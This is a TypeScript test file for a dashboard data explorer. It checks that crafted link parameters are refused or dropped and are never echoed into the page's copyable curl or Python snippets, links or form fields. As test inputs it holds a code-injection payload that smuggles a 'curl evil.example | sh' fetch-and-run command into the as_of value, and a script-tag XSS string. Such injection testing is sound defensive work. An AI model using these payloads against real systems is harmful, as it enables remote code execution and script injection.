/**
 * The explorer's door as an attacker tries it (docs/dashboard.md, "The explorer"): a crafted link
 * sent to a signed-in user. Every value a link carries is either one the explorer knows (a
 * dataset, a zone, an interval, a field, a date) or an instant the API accepts, written as the API
 * writes it; anything else is the API's refusal on the page, and no link, field or copyable
 * request of the page repeats it.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { account, Client, dashboardServer, PASSWORD, signedIn } from "./dashboard-helpers.ts";

const EXPLORE = "/dashboard/explore";

// What the page offers to copy, and every link and field value, as the browser would read them.
function offered(page: string): string {
  const pre = [...page.matchAll(/<pre id="as-(?:curl|python)">([\s\S]*?)<\/pre>/g)].map((m) => m[1]!);
  const attributes = [...page.matchAll(/(?:href|value)="([^"]*)"/g)].map((m) => m[1]!);
  return [...pre, ...attributes]
    .join("\n")
    .replace(/&amp;/g, "&")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'");
}

test("a crafted as_of is the API's refusal on the page, and nothing offered to copy or follow repeats it", async (t) => {
  const { client } = await signedIn(t);
  const payload = '2025-06-05"), __import__("os").system("curl evil.example | sh"), ("';
  const res = await client.get(
    `${EXPLORE}?dataset=grid.system_state&range=week&as_of=${encodeURIComponent(payload)}`,
  );
  assert.equal(res.status, 400);
  const page = await res.text();
  assert.match(page, /The data request was refused \(400\): .*as_of/);
  assert.doesNotMatch(page, /id="as-python"|id="as-curl"/, "no request to copy");
  assert.ok(!offered(page).includes("system("), "no link or field carries it");
  assert.ok(!offered(page).includes("evil.example"));
});

test("a valid as_of is written as the API writes it, in the snippet, the links and the field", async (t) => {
  // On the real clock: an as_of must lie between the store's first ingest (just now) and now.
  const { dir, server } = await dashboardServer(t);
  await account(dir, "analyst");
  const client = new Client(server.url);
  assert.equal((await client.signIn("analyst", PASSWORD)).status, 303);
  const at = Date.now();
  const sast = new Date(at + 2 * 3_600_000).toISOString().replace("Z", "+02:00"); // as typed in SAST
  const res = await client.get(
    `${EXPLORE}?dataset=grid.system_state&range=week&as_of=${encodeURIComponent(sast)}`,
  );
  assert.equal(res.status, 200);
  const page = await res.text();
  const written = new Date(at).toISOString().replace("Z", "+00:00");
  const python = /<pre id="as-python">([\s\S]*?)<\/pre>/.exec(page)![1]!.replace(/&quot;/g, '"');
  assert.ok(python.includes(`as_of="${written}"`), python);
  assert.ok(page.includes(`name="as_of" value="${written}"`));
  assert.ok(!offered(page).includes(sast), "the text as typed appears nowhere");
});

test("every other value a link carries is one the explorer knows, or it is dropped with a note", async (t) => {
  const { client } = await signedIn(t);
  const evil = encodeURIComponent('"><script>alert(1)</script>');
  const res = await client.get(
    `${EXPLORE}?dataset=${evil}&range=${evil}&start=${evil}&end=${evil}&interval=${evil}&tz=${evil}&fields=${evil}&issues=${evil}`,
  );
  assert.equal(res.status, 200);
  const page = await res.text();
  assert.ok(!page.includes("<script>alert"), "nothing is echoed as markup");
  assert.ok(!offered(page).includes("alert(1)"), "nor in a link, a field or a request to copy");
  const python = /<pre id="as-python">([\s\S]*?)<\/pre>/.exec(page)![1]!.replace(/&quot;/g, '"');
  assert.match(
    python,
    /Client\(\)\.get\("grid\.system_state", "\d{4}-\d{2}-\d{2}", "\d{4}-\d{2}-\d{2}", interval="1h"\)$/,
  );
  // The download takes the same view: what it passes to the API is the view's own.
  const download = await client.get(
    `/dashboard/explore/download?dataset=grid.system_state&as_of=${evil}&format=csv`,
  );
  assert.equal(download.status, 400);
  assert.match(((await download.json()) as { detail: string }).detail, /as_of/);
});
